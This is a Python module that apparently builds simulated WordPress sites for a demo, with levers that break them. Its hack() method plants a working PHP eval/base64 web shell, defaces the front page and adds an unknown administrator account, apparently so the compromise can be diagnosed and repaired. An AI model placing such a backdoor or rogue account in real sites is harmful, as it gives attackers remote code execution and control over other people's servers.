"""One site on the demo's disk: its tree, its database, and the levers by which trouble is made. Blocking file access.

Made at first use, so that a thousand sites cost nothing until somebody looks at them.
"""

from __future__ import annotations

import asyncio
import datetime as dt
import json
import shutil
import threading
from pathlib import Path
from typing import Any

from app.demo import contents
from app.demo.cast import Character, Condition


class DemoSite:
    """`root` and `home` are real folders; `tables` and `store` read and write the JSON that stands for the database."""

    def __init__(self, character: Character, home: Path, birth: dt.datetime, language: str) -> None:
        self.character, self.home, self.birth, self.language = character, home, birth, language
        self.name = character.name
        self.root = home / character.root.removeprefix("~/")
        self.database = home / "mysql" / f"{self.name}.json"
        self.condition = character.condition
        """Of the web server alone: `refused` and `slow`; what is wrong with the tree lies in the tree."""
        self._made = False
        self._making = threading.Lock()
        self._pulse: asyncio.Event | None = None

    # ------------------------------------------------------------ change and wait

    def stir(self) -> None:
        """Wakes everybody who waits for a line in a journal of this site."""
        if self._pulse is not None:
            self._pulse.set()
        self._pulse = None

    def pulse(self) -> asyncio.Event:
        """Set at the next change. Take it before you look, then nothing is missed."""
        if self._pulse is None:
            self._pulse = asyncio.Event()
        return self._pulse

    # ------------------------------------------------------------ the tree and the database

    def make(self) -> None:
        """Writes the tree and the database, once, with the trouble that the character has."""
        if self._made:
            return
        with self._making:
            if not self._made:
                self.lay_out(self.root, self.database, self.birth)
                self._trouble()
                self._made = True

    def lay_out(self, root: Path, database: Path, at: dt.datetime) -> None:
        """The site as it was at `at`, in these places."""
        folders = set()
        for path, body in contents.files(self.character, self.birth, at).items():
            target = root / path
            if target.parent not in folders:
                target.parent.mkdir(parents=True, exist_ok=True)
                folders.add(target.parent)
            target.write_bytes(body)
        (root / "wp-config.php").chmod(0o600)
        database.parent.mkdir(parents=True, exist_ok=True)
        write_tables(database, contents.database(self.character, self.birth, at, self.language))

    def _trouble(self) -> None:
        match self.character.condition:
            case Condition.HACKED:
                self.hack()
            case Condition.FATAL:
                self.break_plugin(self.character.plugins[-1].slug)
            case Condition.DATABASE:
                self.break_database()

    def read(self, path: str) -> bytes | None:
        """A file below the root; None where there is none."""
        self.make()
        try:
            return (self.root / path).read_bytes()
        except OSError:
            return None

    def tables(self) -> dict[str, Any]:
        self.make()
        return read_tables(self.database)

    @property
    def password(self) -> str:
        """What opens its database: what wp-config.php had when the demo opened, until somebody changes it."""
        try:
            return self.database.with_suffix(".password").read_text()
        except FileNotFoundError:
            return contents.password(self.character)

    def store(self, tables: dict[str, Any]) -> None:
        write_tables(self.database, tables)

    def copy_at(self, root: Path, database: Path) -> DemoSite:
        """The same site with its tree and database in other places: what a rehearsal renders."""
        copy = DemoSite(self.character, self.home, self.birth, self.language)
        copy.root, copy.database, copy._made = root, database, True
        return copy

    # ------------------------------------------------------------ isolation

    @property
    def closed(self) -> dict[str, Any] | None:
        """Since when, for whom not (`allow`), and the secret that passes for now (`pass`); None where it is open."""
        try:
            found: dict[str, Any] = json.loads(self._gate.read_bytes())
        except FileNotFoundError:
            return None
        return found

    def close(self, gate: dict[str, Any]) -> None:
        self._gate.write_text(json.dumps(gate))

    def open(self) -> None:
        self._gate.unlink(missing_ok=True)

    @property
    def _gate(self) -> Path:
        return self.database.with_suffix(".closed")

    # ------------------------------------------------------------ levers

    def delete_file(self, path: str) -> None:
        self.make()
        target = self.root / path
        if target.is_dir():
            shutil.rmtree(target)
        else:
            target.unlink()

    def delete_posts(self, count: int) -> list[str]:
        """Deletes the newest posts; returns their titles."""
        tables = self.tables()
        gone = tables["posts"][len(tables["posts"]) - count :]
        tables["posts"] = tables["posts"][: len(tables["posts"]) - count]
        self.store(tables)
        return [post["title"] for post in gone]

    def hack(self) -> None:
        """Defaced front page, a back door among the uploads, an administrator whom nobody knows."""
        self.root.mkdir(parents=True, exist_ok=True)
        (self.root / "index.php").write_bytes(b"<?php " + contents.DEFACED.encode() + b" echo 'HACKED BY NOBODY';\n")
        door = self.root / contents.SHELL
        door.parent.mkdir(parents=True, exist_ok=True)
        door.write_bytes(b"<?php @eval( base64_decode( $_POST['x'] ) );\n")
        tables = read_tables(self.database)
        since = (self.birth - dt.timedelta(hours=self.character.hours_ago)).isoformat(timespec="seconds")
        tables["users"].append({"id": 99, "login": "wp_support1", "role": "administrator", "registered": since})
        self.store(tables)

    def break_plugin(self, slug: str, fault: str = "fatal") -> None:
        part = next(part for part in self.character.plugins if part.slug == slug)
        (self.root / contents.slug_file(part)).write_bytes(contents.plugin_source(part, part.version, fault))

    def change_password(self, password: str) -> None:
        """As the host's panel does: wp-config.php is not told."""
        self.make()
        self.database.with_suffix(".password").write_text(password)

    def break_database(self) -> None:
        tables = read_tables(self.database)
        tables["options"]["reachable"] = False
        self.store(tables)


def read_tables(path: Path) -> dict[str, Any]:
    tables: dict[str, Any] = json.loads(path.read_bytes())
    return tables


def write_tables(path: Path, tables: dict[str, Any]) -> None:
    part = path.with_suffix(".part")
    part.write_text(json.dumps(tables, ensure_ascii=False))
    part.replace(path)
